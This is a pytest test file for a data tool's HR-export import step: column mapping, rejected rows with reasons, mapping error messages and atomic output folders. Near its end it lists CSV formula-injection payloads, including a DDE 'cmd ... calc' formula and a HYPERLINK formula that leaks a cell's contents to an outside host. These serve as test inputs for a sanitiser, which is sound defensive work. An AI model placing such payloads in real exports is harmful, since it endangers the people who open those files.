"""Imports by a mapping: every row arrives or is in `rejected.csv`, and nothing is half done."""

import csv
import datetime as dt
import json
from pathlib import Path

import pandas as pd
import pytest
import yaml

from learnalign.data import files, importing, reading
from learnalign.data.mapping import read_mapping
from learnalign.data.mistakes import DataError

ROOT = Path(__file__).parents[2]
MAPPING = """
source: exports
arrive: 0
dataset: {title: Drawn, as_of: "2024-12-31", rating_scale: [1, 2, 3]}
tables:
  people:
    file: staff.csv
    columns: {person_id: Id, hired_on: Hired}
  reviews:
    file: reviews.csv
    columns: {person_id: Id, cycle: Cycle, reviewed_on: Date, rating: Rating, unit: Unit}
"""
STAFF = "Id,Hired\nana,2020-01-01\nben,2020-01-01\n"
REVIEWS = "Id,Cycle,Date,Rating,Unit\nana,H1,2023-07-01,2,ops\nben,H1,2023-07-01,3,ops\n"


class Job:
    """A mapping and its exports in a folder of their own."""

    def __init__(self, folder: Path) -> None:
        self.folder, self.out = folder, folder / "out"
        (folder / "exports").mkdir()

    def write(self, mapping=MAPPING, **files) -> "Job":
        """Files by their name with `__` for the dot; None for none."""
        (self.folder / "map.yml").write_bytes(
            mapping if isinstance(mapping, bytes) else mapping.encode()
        )
        for name, content in ({"staff__csv": STAFF, "reviews__csv": REVIEWS} | files).items():
            if content is not None:
                content = content if isinstance(content, bytes) else content.encode()
                (self.folder / "exports" / name.replace("__", ".")).write_bytes(content)
        return self

    def bring_in(self) -> importing.Imported:
        return importing.bring_in(self.folder / "map.yml", self.out)

    def refused(self) -> list[str]:
        """Every problem, after making sure that nothing was changed or left."""
        before = self.tree()
        with pytest.raises(DataError) as error:
            self.bring_in()
        assert self.tree() == before
        return [str(problem) for problem in error.value.problems]

    def tree(self) -> dict[str, bytes | None]:
        every = sorted(self.folder.rglob("*"))
        return {str(path): path.read_bytes() if path.is_file() else None for path in every}

    def rows(self, table: str) -> list[dict[str, object]]:
        return reading.read(self.out).tables[table].to_pyarrow().to_pylist()

    def people(self) -> list[str]:
        return [row["person_id"] for row in self.rows("people")]

    def rejected(self) -> list[str]:
        return (self.out / "rejected.csv").read_text("utf-8").splitlines()[1:]


@pytest.fixture
def job(tmp_path):
    return Job(tmp_path)


def changed(old: str, new: str) -> str:
    assert MAPPING.count(old) == 1
    return MAPPING.replace(old, new)


@pytest.mark.slow
def test_a_small_import_from_end_to_end(job):
    done = job.write().bring_in()
    assert done.summary.to_dict("list") == {
        "table": ["people", "reviews"],
        "read": [2, 2],
        "kept": [2, 2],
        "rejected": [0, 0],
    }
    assert sorted(path.name for path in done.folder.iterdir()) == [
        "dataset.yml",
        "people.parquet",
        "rejected.csv",
        "reviews.parquet",
    ]
    assert (job.out / "rejected.csv").read_text() == "table,file,line,reason\n"
    meta = reading.read(job.out).meta
    assert meta.model_copy(update={"imported": ()}) == read_mapping(job.folder / "map.yml").dataset
    assert job.rows("reviews")[0] | {"manager_id": None} == {
        "person_id": "ana",
        "cycle": "H1",
        "reviewed_on": dt.date(2023, 7, 1),
        "rating": 2.0,
        "unit": "ops",
        "manager_id": None,
        "grade": None,
        "fte": None,
        "settled_on": None,
    }


# --- where values come from


@pytest.mark.slow
@pytest.mark.parametrize(
    "head",
    ["Id,Hired", "ID,hired", " i d ,HIRED", "\ufeffId,Híred", "Í-D,Hi red", "_id_,(hired)"],
    ids=ascii,
)
def test_headers_match_without_regard_to_case_spaces_accents_and_marks(job, head):
    job.write(staff__csv=STAFF.replace("Id,Hired", head)).bring_in()
    assert job.people() == ["ana", "ben"]


@pytest.mark.slow
def test_a_header_that_matches_exactly_comes_before_one_that_nearly_does(job):
    job.write(
        staff__csv="I-D,Id,Hired,_file,File,Line\nx,ana,2020-01-01,a,b,c\ny,ben,soon,a,b,c\n"
    ).bring_in()
    assert (
        job.people() == ["ana"]
        and job.rejected()[0] == "people,staff.csv,3,hired_on is not a date: soon"
    )
    mapping = changed("person_id: Id, hired_on", "person_id: file, hired_on")
    job.write(mapping, staff__csv="File,Hired\nana,2020-01-01\n").bring_in()
    assert job.people() == ["ana"]  # and not the name of the file
    assert job.write(staff__csv="I-D,i d,Hired\nx,ana,2020-01-01\n").refused() == [
        (
            "people.person_id: several columns may be 'Id'\n    Got: I-D, i d\n    Fix: write it "
            "exactly as the source does"
        )
    ]


@pytest.mark.slow
def test_dates_values_constants_and_sql(job):
    mapping = """
source: exports
arrive: 0
dataset: {title: Drawn, as_of: 2024-12-31, rating_scale: {min: 0, max: 10}, attributes: [site, grade_now]}
tables:
  people:
    file: staff.csv
    set_aside:
      - {sql: "Kind = 'robot'", because: "not a person; it's a robot"}
      - {sql: Id LIKE 'test%', because: a test account}
    columns:
      person_id: {sql: "lower(trim(Id)) -- as the other system has it"}
      hired_on: {column: Hired, date: "%d.%m.%Y"}
      left_on: {constant: 2024-06-30}
      site: {constant: HQ's}
      grade_now: {column: Grade, values: {1: junior, "2": senior, yes: boss}}
  reviews:
    query: |
      SELECT r.*, s.Grade FROM reviews AS r JOIN staff AS s USING (Id) ORDER BY Id;
    columns:
      person_id: {sql: lower(Id)}
      cycle: {constant: 1}
      reviewed_on: Date
      rating: {sql: "CAST(Rating AS DOUBLE) / 3"}
      unit: Unit
  learning:
    file: reviews.csv
    columns:
      person_id: {sql: lower(Id)}
      learned_on: Date
      activity_type: {constant: course}
      is_required: {column: Unit, values: {ops: true, hr: no}}
"""
    staff = (
        "Id,Hired,Grade,Kind\n Ana "
        ",01.02.2020,1,\nBEN,31.12.2019,2,\ncat,30.02.2020,yes,\ndan,01.01.2020,3,\nR2,01.01.2020,1,robot\ntest1,x,9,robot\n"
    )
    reviews = (
        REVIEWS.replace("ana", "ben")
        .replace("ben,H1,2023-07-01,3", "ANA,H1,2023-07-01,3")
        .replace("Id,", "Id,")
        .replace("3,ops", "3,hr")
    )
    job.write(
        mapping,
        staff__csv=staff.replace(" Ana ", "ANA"),
        reviews__csv=reviews.replace("ben", "BEN"),
    ).bring_in()
    assert job.rows("people") == [
        {
            "person_id": "ana",
            "hired_on": dt.date(2020, 2, 1),
            "left_on": dt.date(2024, 6, 30),
            "site": "HQ's",
            "grade_now": "junior",
        },
        {
            "person_id": "ben",
            "hired_on": dt.date(2019, 12, 31),
            "left_on": dt.date(2024, 6, 30),
            "site": "HQ's",
            "grade_now": "senior",
        },
    ]
    assert job.rejected() == [
        "people,staff.csv,4,hired_on is not a date: 30.02.2020",
        "people,staff.csv,5,grade_now is not among the values of the mapping: 3",
        "people,staff.csv,6,not a person; it's a robot",
        "people,staff.csv,7,not a person; it's a robot; hired_on is not a date: x; grade_now "
        "is not among "
        "the values of the mapping: 9",
    ]
    assert {row["person_id"]: row["rating"] for row in job.rows("reviews")} == {
        "ana": 1.0,
        "ben": 2 / 3,
    }  # every digit
    assert {row["cycle"] for row in job.rows("reviews")} == {"1"}
    assert {row["person_id"]: row["is_required"] for row in job.rows("learning")} == {
        "ana": False,
        "ben": True,
    }


@pytest.mark.slow
def test_a_pattern_takes_every_file_and_names_it(job):
    mapping = changed("staff.csv", "staff*.csv\n    prefer: first")
    job.write(
        mapping, staff_2__csv="HIRED , id\n2021-01-01,cat\nsoon,dan\n2021-01-01,ana\n"
    ).bring_in()
    assert job.people() == ["ana", "ben", "cat"]
    assert job.rejected() == [
        "people,staff_2.csv,3,hired_on is not a date: soon",
        'people,staff_2.csv,4,"another row has the same person_id, and came first"',
    ]
    text = (
        "people.file: staff_2.csv does not have the columns of staff.csv\n    Got: a "
        "difference in Left\n"
    )
    fix = "    Fix: give the files the same columns, or join them in a query with UNION ALL BY NAME"
    assert job.write(mapping, staff_2__csv="Id,Hired,Left\ncat,2021-01-01,\n").refused() == [
        text + fix
    ]
    query = changed(
        "file: staff.csv",
        "prefer: first\n    query: SELECT * FROM staff UNION ALL BY NAME SELECT * FROM staff_2",
    )
    job.write(query).bring_in()
    assert job.people() == ["ana", "ben", "cat"]


@pytest.mark.slow
@pytest.mark.parametrize(
    ("setting", "encoding"),
    [
        ("latin-1", "latin-1"),
        ("windows-1252", "cp1252"),
        ("utf-16", "utf-16"),
        ("utf-8", "utf-8-sig"),
        ("utf-8", "utf-8"),
    ],
)
def test_encodings(job, setting, encoding):
    name = "Zoë" if encoding == "latin-1" else "Zoë€"
    staff, reviews = (text.replace("ana", name).encode(encoding) for text in (STAFF, REVIEWS))
    mapping = changed("source: exports", f"source: exports\nencoding: {setting}")
    job.write(mapping, staff__csv=staff, reviews__csv=reviews).bring_in()
    assert job.people() == [name, "ben"] and job.rejected() == []


@pytest.mark.slow
def test_an_encoding_or_delimiter_of_one_table(job):
    mapping = changed(
        "file: staff.csv", 'file: staff.csv\n    encoding: latin-1\n    delimiter: ";"'
    )
    job.write(
        mapping,
        staff__csv=STAFF.replace(",", ";").replace("ana", "Zoë").encode("latin-1"),
        reviews__csv=REVIEWS.replace("ana", "Zoë"),
    ).bring_in()
    assert job.people() == ["Zoë", "ben"]
    tabs = changed("source: exports", 'source: exports\ndelimiter: "\\t"\nmissing: ["", NA, "-"]')
    job.write(
        tabs,
        staff__csv=STAFF.replace(",", "\t") + "NA\t2020-01-01\ncat\t-\n",
        reviews__csv=REVIEWS.replace(",", "\t"),
    ).bring_in()
    assert job.rejected() == [
        "people,staff.csv,4,person_id is empty",
        "people,staff.csv,5,hired_on is empty",
    ]


@pytest.mark.slow
def test_parquet_as_a_source(job):
    frame = pd.DataFrame(
        {
            "ID": [1, 2, 3],
            "Hired": [dt.datetime(2020, 1, 1, 12), dt.datetime(2021, 1, 1), None],
            "Gone": [True, False, None],
        }
    )
    mapping = changed("staff.csv", "staff.parquet").replace(
        "hired_on: Hired",
        "hired_on: Hired, left_on: {sql: \"CASE WHEN Gone THEN DATE '2024-01-01' END\"}",
    )
    job.write(
        mapping, staff__csv=None, reviews__csv=REVIEWS.replace("ana", "1").replace("ben", "2")
    )
    frame.to_parquet(job.folder / "exports/staff.parquet")
    job.bring_in()
    assert job.rows("people") == [
        {"person_id": "1", "hired_on": dt.date(2020, 1, 1), "left_on": dt.date(2024, 1, 1)},
        {"person_id": "2", "hired_on": dt.date(2021, 1, 1), "left_on": None},
    ]
    assert job.rejected() == [
        "people,staff.parquet,3,hired_on is empty"
    ]  # no header: the third row


# --- which rows are kept


@pytest.mark.slow
def test_of_equal_keys_the_first_good_one_is_kept_not_the_first(job):
    staff = "Id,Hired\nana,soon\nana,2020-01-01\nana,2019-01-01\nben,2020-01-01\n"
    mapping = changed("file: staff.csv", "file: staff.csv\n    prefer: first")
    reviews = REVIEWS.replace(
        "ana,H1,2023-07-01,2",
        "ana,H1,2023-07-01,9,ops\nana,H1,2019-07-01,2,ops\nana,H1,2023-07-01,1",
    )
    done = job.write(mapping, staff__csv=staff, reviews__csv=reviews).bring_in()
    assert done.summary.set_index("table").loc[["people", "reviews"]].values.tolist() == [
        [4, 2, 2],
        [4, 2, 2],
    ]
    assert (
        job.rows("people")[0]["hired_on"] == dt.date(2020, 1, 1)
        and job.rows("reviews")[0]["rating"] == 1
    )
    assert job.rejected() == [
        "people,staff.csv,2,hired_on is not a date: soon",
        'people,staff.csv,4,"another row has the same person_id, and came first"',
        "reviews,reviews.csv,2,rating is not on the rating scale: 9",
        "reviews,reviews.csv,3,reviewed_on is before the person was hired: 2020-01-01 / 2019-07-01",
    ]


@pytest.mark.slow
def test_rows_about_rejected_people_are_rejected_with_them(job):
    done = job.write(staff__csv=STAFF.replace("ana,2020-01-01", "ana,2025-01-01")).bring_in()
    assert done.summary.rejected.tolist() == [1, 1]
    assert job.rejected() == [
        "people,staff.csv,2,hired_on is after as_of (2024-12-31): 2025-01-01",
        "reviews,reviews.csv,2,person_id is not in people: ana",
    ]


@pytest.mark.slow
def test_every_reason_is_given_and_every_row_is_accounted_for(job):
    reviews = (
        REVIEWS + ",H1,x,y,\n" + "".join(f"ana,H{i},2023-07-01,{i % 5},ops\n" for i in range(2, 40))
    )
    done = job.write(reviews__csv=reviews).bring_in()
    counts = done.summary.set_index("table").loc["reviews"]
    assert (counts["read"], counts["kept"] + counts["rejected"]) == (41, 41)
    found = pd.read_csv(job.out / "rejected.csv")
    assert len(found) == counts["rejected"] and found.line.is_unique
    assert found.reason[0] == (
        "person_id is empty; reviewed_on is not a date: x; rating is not a number: y; unit is empty"
    )


@pytest.mark.slow
def test_when_nothing_can_be_kept_the_commonest_reasons_are_told(job):
    staff = "Id,Hired\nana,soon\nben,\n" + "".join(f"p{i},later\n" for i in range(7))
    assert job.write(staff__csv=staff).refused() == [
        "people: none of its 9 rows can be kept\n"
        "    Got: 8 × hired_on is not a date; 1 × hired_on is empty\n"
        "    Fix: correct the mapping, or the source"
    ]
    assert job.write(staff__csv="Id,Hired\n").refused() == [
        "people: the source holds no rows\n    Fix: correct the mapping, or the source"
    ]


# --- mistakes in a mapping

KEYS = (
    "accept_loss, accounts, also, arrive, as_is, as_of, attributes, because, best, bonus_rewards_individual, "
    "column, columns, compa_from, compa_to, constant, currency, dataset, date, decimal, delimiter, encoding, "
    "file, files, header, identities, key, max, max_pct, merit_matrix, min, min_pct, missing, once, person_id, "
    "prefer, pseudonyms, query, rating, rating_scale, repair, set_aside, sheet, source, spellings, sql, tables, "
    "target_pct, title, unit, values, xapi, zone"
)
ONE = "name exactly one of"
SCALAR = "is neither text nor a number, a date, true or false"


@pytest.mark.parametrize(
    ("mapping", "expected"),
    [
        (
            changed("hired_on: Hired", "hire_on: Hired, site: Site"),
            [
                "map.yml.people.hire_on: is no canonical column\n"
                "    Allowed: person_id, hired_on, left_on\n"
                "    Fix: did you mean 'hired_on'?",
                "map.yml.people.site: is no canonical column\n"
                "    Allowed: person_id, hired_on, left_on\n"
                "    Fix: remove it",
                "map.yml.people.hired_on: this required column is not mapped\n    Fix: add it",
            ],
        ),
        (
            changed("rating_scale: [1, 2, 3]", "rating_scale: [1, 2, 3], attributes: [site]"),
            ["map.yml.people.site: this required column is not mapped\n    Fix: add it"],
        ),
        (
            MAPPING[: MAPPING.index("  reviews:")],
            ["map.yml.tables.reviews: this required table is not mapped\n    Fix: add it"],
        ),
        (
            MAPPING[: MAPPING.index("tables:")] + "tables: {}\n",
            [
                "map.yml.tables.people: this required table is not mapped\n    Fix: add it",
                "map.yml.tables.reviews: this required table is not mapped\n    Fix: add it",
            ],
        ),
        (
            changed("file: staff.csv", "fil: staff.csv"),
            [
                f"map.yml.tables.people.fil: is not a key this file knows\n"
                f"    Allowed: {KEYS}\n"
                f"    Fix: did you mean 'file'?"
            ],
        ),
        (
            changed("    file: staff.csv\n", ""),
            [
                f"map.yml.tables.people: {ONE} file and query\n"
                f"    Got: {{'columns': {{'person_id': 'Id', 'hired_on': 'Hired'}}}}"
            ],
        ),
        (
            changed("file: staff.csv", "file: s.csv\n    query: SELECT 1"),
            [
                f"map.yml.tables.people: {ONE} file and query\n"
                f"    Got: {{'file': 's.csv', 'query': 'SELECT 1', 'columns': {{'person_id': 'Id', 'hired_on'"
            ],
        ),
        (
            changed("unit: Unit", "unit: {}"),
            [f"map.yml.tables.reviews.columns.unit: {ONE} column, constant and sql\n    Got: {{}}"],
        ),
        (
            changed("unit: Unit", "unit: {column: Unit, sql: Unit}"),
            [
                f"map.yml.tables.reviews.columns.unit: {ONE} column, constant and sql\n"
                f"    Got: {{'column': 'Unit', 'sql': 'Unit'}}"
            ],
        ),
        (
            changed("unit: Unit", "unit: {constant: a, values: {a: b}}"),
            [
                "map.yml.tables.reviews.columns.unit: date, decimal, unit and values go with column\n"
                "    Got: {'constant': 'a', 'values': {'a': 'b'}}"
            ],
        ),
        (
            changed("unit: Unit", "unit:"),
            [
                (
                    "map.yml.tables.reviews.columns.unit: does not hold 'key: value' pairs\n    "
                    "Got: None"
                )
            ],
        ),
        (
            changed("unit: Unit", "unit: {column: Unit, values: {}}"),
            ["map.yml.tables.reviews.columns.unit.values: is empty\n    Got: {}"],
        ),
        (
            changed("unit: Unit", "unit: {column: Unit, values: {a: [b]}}"),
            [f"map.yml.tables.reviews.columns.unit.values.a: {SCALAR}\n    Got: ['b']"],
        ),
        (
            changed("unit: Unit", "unit: {column: Unit, values: {a: b, a: c}}"),
            [
                "map.yml: cannot be read as YAML\n"
                "    Got: the key 'a' stands twice in line 11, column 115"
            ],
        ),
        (
            changed("  people:", "  persons:"),
            [
                "map.yml.tables.persons.[key]: Input should be 'people', 'reviews', "
                "'rewards', 'learning', "
                "'assessments', 'acknowledgements', 'ties', 'surveys' or 'invitations'\n"
                "    Got: 'persons'"
            ],
        ),
        (
            changed(
                "file: staff.csv",
                "file: staff.csv\n    set_aside: [{sql: Id IS NULL, because: ''}]",
            ),
            ["map.yml.tables.people.set_aside.0.because: is empty\n    Got: ''"],
        ),
        (
            changed("source: exports", "encoding: klingon\ndelimiter: ';;'\nmissing: []"),
            [
                "map.yml.source: is missing\n    Fix: add it",
                "map.yml.encoding: is not an encoding we know, such as utf-8, latin-1, "
                "windows-1252 or utf-16\n"
                "    Got: 'klingon'",
                (
                    "map.yml.delimiter: is one sign, such as ; or a tab, and neither a quote nor "
                    "a line end\n    Got: ';;'"
                ),
                "map.yml.missing: is empty\n    Got: []",
            ],
        ),
        (
            changed("source: exports", "source: exports\nencoding: base64"),
            [
                "map.yml.encoding: is not an encoding we know, such as utf-8, latin-1, "
                "windows-1252 or utf-16\n"
                "    Got: 'base64'"
            ],
        ),
        (
            changed("2024-12-31", "31.12.2024"),
            ["map.yml.dataset.as_of: is not a date as YYYY-MM-DD\n    Got: '31.12.2024'"],
        ),
        ("", ["map.yml: holds no 'key: value' lines\n    Got: NoneType"]),
        ("- people\n", ["map.yml: holds no 'key: value' lines\n    Got: list"]),
    ],
    ids=[
        "column",
        "attribute",
        "table not mapped",
        "no tables",
        "key",
        "neither",
        "both",
        "no origin",
        "two origins",
        "values of a constant",
        "nothing",
        "no values",
        "a list",
        "a key twice",
        "table",
        "no reason",
        "settings",
        "no text encoding",
        "as_of",
        "empty",
        "a list at the top",
    ],
)
def test_a_mistake_in_a_mapping(job, mapping, expected):
    assert job.write(mapping).refused() == expected


def test_mistakes_that_show_only_in_the_source_are_told_at_once(job):
    mapping = changed("hired_on: Hired", 'hired_on: Hird, left_on: {sql: "nope + 1"}').replace(
        "reviewed_on: Date, rating: Rating",
        "reviewed_on: {column: Date, date: '%Q'}, rating: {sql: 'a ) b'}",
    )
    mapping += (
        "  ties:\n    query: SELEC 1\n    columns: {from_id: a, to_id: b, tied_on: c, kind: d}\n"
    )
    mapping += (
        "  learning:\n    file: lerning.csv\n    columns: {person_id: a, learned_on: "
        "b, activity_type: c}\n"
    )
    found = job.write(mapping, learning__csv="a\n1\n").refused()
    assert found == [
        (
            "people.hired_on: the source has no column 'Hird'\n    Got: Id, Hired\n    Fix: did "
            "you mean 'Hired'?"
        ),
        "people.left_on: cannot be computed\n"
        '    Got: Binder Error: Referenced column "nope" not found in FROM clause!\n'
        "    Fix: correct it",
        "reviews.reviewed_on: cannot be computed\n"
        "    Got: Invalid Input Error: Failed to parse format specifier %Q: Unrecognized "
        "format for "
        "strftime/strptime: %Q\n"
        "    Fix: correct it",
        "reviews.rating: cannot be computed\n"
        '    Got: Parser Error: syntax error at or near ")"\n'
        "    Fix: correct it",
        (
            "learning.file: no file matches\n    Got: lerning.csv\n    Fix: did you mean "
            "'learning.csv'?"
        ),
        (
            "ties.query: cannot be computed\n    Got: Parser Error: syntax error at or near "
            '"SELEC"\n    Fix: correct it'
        ),
    ]


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        (
            "file: staff.csv",
            "query: SELECT nope FROM staff",
            "people.query: cannot be computed\n"
            '    Got: Binder Error: Referenced column "nope" not found in FROM clause!',
        ),
        (
            "file: staff.csv",
            "query: SELECT * FROM stuff",
            "people.query: asks for 'stuff', which a mapping may not have\n"
            "    Allowed: the exports (book, reviews, staff), and functions",
        ),
        ("file: staff.csv", "query: SELECT 1; SELECT 2", "people.query: is not one SELECT\n"),
        ("file: staff.csv", "query: COPY staff TO 'x.csv'", "people.query: is not one SELECT\n"),
        ("file: staff.csv", "query: ''", "people.query: is not one SELECT\n"),
        (
            "file: staff.csv",
            "query: \"SELECT *, CAST('x' AS INT) AS n FROM staff\"",
            (
                "people.query: cannot be computed\n    Got: Conversion Error: Could not convert "
                "string 'x' to INT32"
            ),
        ),
        (
            "hired_on: Hired",
            "hired_on: {sql: CAST(Id AS DATE)}",
            "people.columns or set_aside: cannot be computed\n"
            '    Got: Conversion Error: invalid date field format: "ana", expected format is '
            "(YYYY-MM-DD)",
        ),
        (
            "file: staff.csv",
            "file: staff.csv\n    set_aside: [{sql: nope, because: x}]",
            "people.columns or set_aside: cannot be computed\n"
            '    Got: Binder Error: Referenced column "nope" not found in FROM clause!',
        ),
        (
            "file: staff.csv",
            "file: /staff.csv",
            "people.file: is not a file pattern\n"
            "    Got: /staff.csv\n"
            "    Allowed: a file name, or a pattern such as staff*.csv, below `source`",
        ),
        (
            "file: staff.csv",
            "file: ''",
            "people.file: is not a file pattern\n"
            "    Allowed: a file name, or a pattern such as staff*.csv, below `source`",
        ),
        ("file: staff.csv", "file: .", "people.file: is not a file pattern\n    Got: .\n"),
        ("file: staff.csv", "file: '**'", "people.file: no file matches\n    Got: **\n"),
        ("file: staff.csv", "file: book.xlsx", "book.xlsx: cannot be opened as a workbook\n"),
    ],
    ids=[
        "query column",
        "query table",
        "two queries",
        "no query",
        "empty query",
        "query fails",
        "sql fails",
        "set_aside",
        "absolute",
        "empty pattern",
        "dot",
        "folders",
        "Excel",
    ],
)
def test_a_query_expression_or_pattern_that_does_not_work(job, old, new, expected):
    (found,) = job.write(changed(old, new), book__xlsx="PK").refused()
    assert found.startswith(expected)


@pytest.mark.parametrize(
    ("staff", "expected"),
    [
        ("", "staff.csv: staff.csv is empty, or its first line is\n"),
        (
            STAFF + "cat\n",
            "staff.csv: lines do not have one value per column (row 4)\n"
            "    Got: Expected Number of Columns: 2 Found: 1\n",
        ),
        (
            STAFF.replace("ana", '"ana'),
            "staff.csv: lines do not have one value per column (row 2)\n"
            "    Got: Value with unterminated quote found.\n",
        ),
        (
            "Id,ID,Hired\na,b,2020-01-01\n",
            "staff.csv.ID: stands twice in the header\n    Fix: keep one",
        ),
        (STAFF.replace("\n", "\r\n", 1), "staff.csv: staff.csv cannot be read as CSV\n"),
        (
            STAFF.replace("ana", "Zoë").encode("latin-1"),
            "staff.csv: is not UTF-8\n"
            "    Got: other bytes in line 2\n"
            "    Allowed: UTF-8\n"
            "    Fix: name it in the mapping, such as `encoding: latin-1` or `encoding: "
            "windows-1252`",
        ),
    ],
    ids=["empty", "ragged", "quote", "twice", "line ends", "Latin-1"],
)
def test_a_source_file_that_cannot_be_read(job, staff, expected):
    (found,) = job.write(staff__csv=staff).refused()
    assert found.startswith(expected)


def test_a_wrong_encoding_is_told(job):
    found = job.write(changed("source: exports", "source: exports\nencoding: utf-16")).refused()
    assert found[0] == (
        "staff.csv.encoding: the file is not utf-16\n    Got: UTF-16 stream does not start with BOM"
    )


def test_a_corrupted_parquet_file_and_one_that_is_a_folder(job):
    job.write(changed("staff.csv", "staff.parquet"), staff__parquet=b"PAR1 no PAR1")
    (found,) = job.refused()
    assert found.startswith("people: the source cannot be read\n    Got: Invalid Input Error: ")
    (job.folder / "exports/staff.parquet").unlink()
    (job.folder / "exports/staff.parquet").mkdir()
    assert job.refused() == [
        "people.file: no file matches\n    Got: staff.parquet\n    Fix: correct the pattern"
    ]


def test_a_missing_source_folder_and_a_missing_mapping(job):
    job.write(changed("source: exports", "source: export"))
    where = job.folder / "export"
    assert job.refused() == [
        f"map.yml.source: there is no such folder\n"
        f"    Got: {where}\n"
        f"    Fix: correct `source`; it starts from the mapping's own folder"
    ]
    (job.folder / "map.yml").unlink()
    assert job.refused() == [f"map.yml: there is no such file\n    Got: {job.folder / 'map.yml'}"]


# --- the folder that is written


@pytest.mark.slow
def test_an_earlier_data_set_is_replaced_whole_and_sources_stay(job):
    job.write(
        changed(
            "\n  reviews:",
            "\n  learning:\n"
            "    file: learned.csv\n"
            "    columns: {person_id: Id, learned_on: Day, activity_type: {constant: "
            "course}}\n  reviews:",
        ),
        learned__csv="Id,Day\nana,2023-01-01\n",
    ).bring_in()
    assert (job.out / "learning.parquet").is_file()
    before = {name: content for name, content in job.tree().items() if "/exports/" in name}
    job.write(MAPPING).bring_in()
    assert sorted(path.name for path in job.out.iterdir()) == [
        "dataset.yml",
        "people.parquet",
        "rejected.csv",
        "reviews.parquet",
    ]
    assert {name: content for name, content in job.tree().items() if "/exports/" in name} == before
    assert sorted(path.name for path in job.folder.iterdir()) == [
        "exports",
        "map.yml",
        "out",
    ]  # and nothing beside it


@pytest.mark.slow
def test_the_same_import_gives_the_same_tables(job):
    first = job.write().bring_in() and reading.read(job.out).fingerprint
    assert job.bring_in() and reading.read(job.out).fingerprint == first


@pytest.mark.parametrize(
    "names", [["notes.txt"], ["people.parquet"], ["dataset.yml", "people.csv", "thesis.docx"]]
)
def test_a_folder_with_anything_else_in_it_is_refused_and_untouched(job, names):
    job.write().out.mkdir()
    for name in names:
        (job.out / name).write_text("mine")
    strangers = names if "dataset.yml" not in names else ["thesis.docx"]
    assert job.refused() == [
        f"{job.out}: is there already and is not a data set\n"
        f"    Got: {', '.join(strangers)}\n"
        f"    Fix: name another folder"
    ]


def test_a_file_and_a_place_where_nothing_can_be_are_refused(job):
    job.write().out.write_text("mine")
    fix = "\n    Fix: name another folder"
    assert job.refused() == [
        f"{job.out}: is there already and is not a data set\n    Got: out{fix}"
    ]
    job.out = job.out / "below"
    (found,) = job.refused()  # the system says that a file exists, or that it is no folder
    assert found.startswith(f"{job.out}: cannot be written\n    Got: ") and found.endswith(fix)
    job.out = job.folder / "exports"
    (job.out / "dataset.yml").write_text("x")
    (job.out / "staff.csv").rename(job.out / "people.csv")
    assert job.refused() == [
        f"{job.out}: is the folder of the exports, which are never changed{fix}"
    ]


@pytest.mark.slow
def test_a_failure_leaves_an_earlier_data_set_as_it_was(job, monkeypatch):
    job.write().bring_in()
    job.write(staff__csv=STAFF + "cat\n").refused()
    job.write(changed("unit: Unit", "unit: Unti")).refused()
    job.write(staff__csv="Id,Hired\nana,x\n").refused()
    before, rename = job.write().tree(), Path.rename

    def fails(self, target):
        if Path(target) == job.out and not self.name.endswith("-old"):
            raise OSError("the disk went away")
        return rename(self, target)

    monkeypatch.setattr(Path, "rename", fails)
    with pytest.raises(OSError, match="the disk went away"):
        job.bring_in()
    assert job.tree() == before


# --- for a person's spreadsheet

FORMULAS = [
    '=HYPERLINK("http://example.org/?"&A1,"open")',
    "+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    "==1",
    "=cmd|' /C calc'!A0",
    "-2",
    "ops;=1+1",
    "ops\t=1",
    "ops\r=1",
    "ops\r\n@1",
    "ops|+1",
    " =1",
]
HARMLESS = [
    "ops",
    "a=b",
    "a - b",
    "ana@bank.example",
    "1-2",
    "'=1",
    "<script>",
    "{{7*7}}",
    "\u202eops",
    "",
    "ops; -1",
]
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def cells(path: Path, delimiter: str = ",") -> list[str]:
    with path.open(encoding="utf-8", newline="") as file:
        return [cell for row in csv.reader(file, delimiter=delimiter) for cell in row]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_and_no_header_is_run_as_a_formula(tmp_path, text):
    frame = pd.DataFrame({text: [text, "ops"], "n": [1, 2], "mixed": [text, -1]})
    files.safe_csv(frame, tmp_path / "a.csv")
    read = cells(tmp_path / "a.csv")
    assert len(read) == 9 and read[-3:] == ["ops", "2", "-1"]
    written = [cell for sign in ",;\t|" for cell in cells(tmp_path / "a.csv", sign)]
    assert [cell for cell in written if cell.startswith(STARTS) and not cell.startswith("-1")] == []


def test_numbers_dates_and_harmless_texts_stay_as_they_are(tmp_path):
    n = len(HARMLESS)
    numbers = pd.DataFrame(
        {"n": [-1.5] * n, "on": pd.to_datetime(["2024-01-01"] * n), "is": True, "no": None}
    )
    frame = numbers.assign(text=HARMLESS, day=dt.date(2024, 1, 1), kind=pd.Categorical(HARMLESS))
    files.safe_csv(frame, tmp_path / "safe.csv")
    frame.to_csv(tmp_path / "plain.csv", index=False)
    assert (tmp_path / "safe.csv").read_bytes() == (tmp_path / "plain.csv").read_bytes()


@pytest.mark.slow
def test_a_formula_in_an_export_reaches_no_cell_of_the_rejected_rows(job):
    reviews = REVIEWS + 'ana,H2,2023-12-01,";=1+1",ops\nana,H3,2023-12-01,"\r@SUM(A1)",ops\n'
    set_aside = changed(
        "file: staff.csv", "file: '=*.csv'\n    set_aside: [{sql: Id = 'cat', because: '=left'}]"
    )
    job.write(set_aside, staff__csv=None, reviews__csv=reviews)
    (job.folder / "exports/=1+1.csv").write_text(STAFF + "cat,2020-01-01\n")
    job.bring_in()
    assert cells(job.out / "rejected.csv")[4:8] == ["people", "'=1+1.csv", "4", "'=left"]
    assert pd.read_csv(job.out / "rejected.csv").reason.tolist()[1:] == [
        "rating is not a number: ;'=1+1",
        "rating is not a number: \n'@SUM(A1)",
    ]


def test_csv_files_are_written_in_four_places_only():
    """For people by `safe_csv`; by `simulate`, whose tables and exports are read again and hold no text of
    others; and by `plan`, whose list is read again and must name each person as the data do.
    """
    library = {
        str(path.relative_to(ROOT / "lib")).removeprefix("learnalign/"): path.read_text("utf-8")
        for path in (ROOT / "lib").rglob("*.py")
    }
    assert {
        name: text.count(".to_csv(") for name, text in library.items() if ".to_csv(" in text
    } == {
        "data/files.py": 1,
        "northbank/raw.py": 1,
        "northbank/tables.py": 1,
        "runs/inviting.py": 1,
    }


# --- real data


